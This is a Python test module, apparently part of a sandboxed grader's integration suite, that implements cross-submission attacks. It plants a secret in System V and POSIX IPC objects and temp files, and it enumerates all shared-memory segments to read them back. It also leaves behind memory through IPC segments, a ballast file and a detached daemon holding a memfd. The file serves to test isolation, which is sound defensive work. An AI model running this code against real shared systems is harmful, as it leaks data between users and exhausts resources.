"""Attack `ipc_left_behind`: the hw2_affine reference plus what a student can
leave in System V and POSIX IPC for whoever is graded next.

``leave()`` puts a secret in a System V shared-memory segment, a System V
message queue, a POSIX message queue, /tmp, /dev/shm and its working folder,
and removes none of them. ``look(folder)`` is the next student: the same key
and name, every segment and queue the kernel lists (``SHM_INFO`` and
``SHM_STAT_ANY`` over all ids, ``/proc/sysvipc``), the same files.
``hoard(megabytes)`` leaves that much memory in System V segments,
charged to the memory cgroup it runs in; ``fill`` and ``keep`` leave it in
a file of the working folder and in a memfd a daemon holds.

Graded by tests/integration/test_zygote_ipc.py, which puts the honest part
in place and fills in the tag.
"""
@HONEST@

# ------------------------------ the attack ------------------------------

import ctypes
import os

TAG = "@TAG@"
SECRET = f"secret-{TAG}".encode()
KEY = 0x5A000000 | int(TAG[:6], 16)
"""The System V key both students know (a classmate's file says which)."""
QUEUE = f"/grade-{TAG}".encode()
FILES = [f"/tmp/grade-{TAG}", f"/dev/shm/grade-{TAG}", f"grade-{TAG}"]
IPC_CREAT, IPC_NOWAIT = 0o1000, 0o4000
SHM_INFO, SHM_STAT_ANY = 14, 15
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
libc.shmctl.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.msgrcv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int]
libc.msgrcv.restype = ctypes.c_ssize_t
libc.mq_open.restype = ctypes.c_int
libc.mq_receive.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
libc.mq_receive.restype = ctypes.c_ssize_t
libc.mq_send.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint]
FAILED = ctypes.c_void_p(-1).value


class ShmInfo(ctypes.Structure):  # struct shm_info, what shmctl(SHM_INFO) fills in
    _fields_ = [("used_ids", ctypes.c_int), ("shm_tot", ctypes.c_ulong), ("shm_rss", ctypes.c_ulong),
                ("shm_swp", ctypes.c_ulong), ("swap_attempts", ctypes.c_ulong), ("swap_successes", ctypes.c_ulong)]


def _error():
    return os.strerror(ctypes.get_errno())


def leave():
    """Leave the secret everywhere a classmate might look; remove nothing."""
    left = {}
    segment = libc.shmget(KEY, 4096, IPC_CREAT | 0o666)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, FAILED):
            ctypes.memmove(address, SECRET, len(SECRET))
            libc.shmdt(address)
    left["shm"] = segment if segment >= 0 else _error()
    queue = libc.msgget(KEY, IPC_CREAT | 0o666)
    message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + len(SECRET))
    ctypes.c_long.from_buffer(message).value = 1
    message[ctypes.sizeof(ctypes.c_long):] = SECRET
    sent = libc.msgsnd(queue, message, len(SECRET), IPC_NOWAIT) if queue >= 0 else -1
    left["msg"] = queue if sent == 0 else _error()
    mq = libc.mq_open(QUEUE, os.O_CREAT | os.O_RDWR, 0o666, None)
    sent = libc.mq_send(mq, SECRET, len(SECRET), 0) if mq >= 0 else -1
    left["mq"] = mq if sent == 0 else _error()
    for path in FILES:
        fd = libc.open(os.fsencode(path), os.O_WRONLY | os.O_CREAT, 0o666)
        if fd >= 0:
            os.write(fd, SECRET)
            os.close(fd)
        left[path] = "written" if fd >= 0 else _error()
    left["cwd"] = os.getcwd()
    return left


def look(folder):
    """What the next student finds of all that (``folder``: the first one's)."""
    found = {}
    segment = libc.shmget(KEY, 0, 0)
    if segment >= 0:
        address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
        found["shm key"] = ctypes.string_at(address, len(SECRET)) if address not in (None, FAILED) else segment
    info = ShmInfo()
    highest = libc.shmctl(0, SHM_INFO, ctypes.byref(info))
    stat = ctypes.create_string_buffer(512)
    ids = [number for number in range(max(highest, -1) + 1) if libc.shmctl(number, SHM_STAT_ANY, stat) >= 0]
    if info.used_ids or ids:
        found["shm ids"] = {"used_ids": info.used_ids, "pages": info.shm_tot, "ids": ids}
    queue = libc.msgget(KEY, 0)
    if queue >= 0:
        message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 256)
        count = libc.msgrcv(queue, message, 256, 0, IPC_NOWAIT)
        found["msg key"] = message.raw[ctypes.sizeof(ctypes.c_long):][:max(count, 0)] or queue
    for name in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{name}") as listing:
            rows = listing.read().splitlines()[1:]
        if rows:
            found[f"/proc/sysvipc/{name}"] = rows
    mq = libc.mq_open(QUEUE, os.O_RDONLY | os.O_NONBLOCK)
    if mq >= 0:
        buffer = ctypes.create_string_buffer(1 << 16)
        count = libc.mq_receive(mq, buffer, len(buffer), None)
        found["mq"] = buffer.raw[:max(count, 0)] or mq
    for path in [*FILES[:2], os.path.join(folder, FILES[2])]:
        fd = libc.open(os.fsencode(path), os.O_RDONLY)
        if fd >= 0:
            found[path] = os.read(fd, 256)
            os.close(fd)
    return {str(key): repr(value) for key, value in found.items()}


def hoard(megabytes):
    """Leave ``megabytes`` in System V segments (of 64 MB, the rest of 1 MB):
    each attached, written all through (so every page is charged), detached
    and kept. Returns the MB left."""
    left = 0
    for chunk in (64, 1):
        while left + chunk <= megabytes:
            segment = libc.shmget(0, chunk << 20, IPC_CREAT | 0o600)  # IPC_PRIVATE: found by id, not by key
            address = libc.shmat(segment, None, 0) if segment >= 0 else FAILED
            if address in (None, FAILED):
                return left
            ctypes.memset(address, 1, chunk << 20)
            libc.shmdt(address)
            left += chunk
    return left


def fill(megabytes):
    """A file of ``megabytes`` in the working folder (a tmpfs: memory too)."""
    block = b"\1" * (1 << 20)
    with open("ballast", "wb") as handle:
        for _ in range(megabytes):
            handle.write(block)
    return megabytes


def keep(megabytes):
    """A daemon (libc's fork, its own session) holding a memfd of ``megabytes``, written all through."""
    ready, done = os.pipe()
    if libc.fork() == 0:
        try:
            libc.setsid()
            fd = libc.memfd_create(b"ballast", 0)
            block = b"\1" * (1 << 20)
            for _ in range(megabytes):
                os.write(fd, block)
            os.write(done, b"x")
            while True:
                libc.pause()
        finally:
            os._exit(0)
    os.close(done)
    return megabytes if os.read(ready, 1) == b"x" else 0
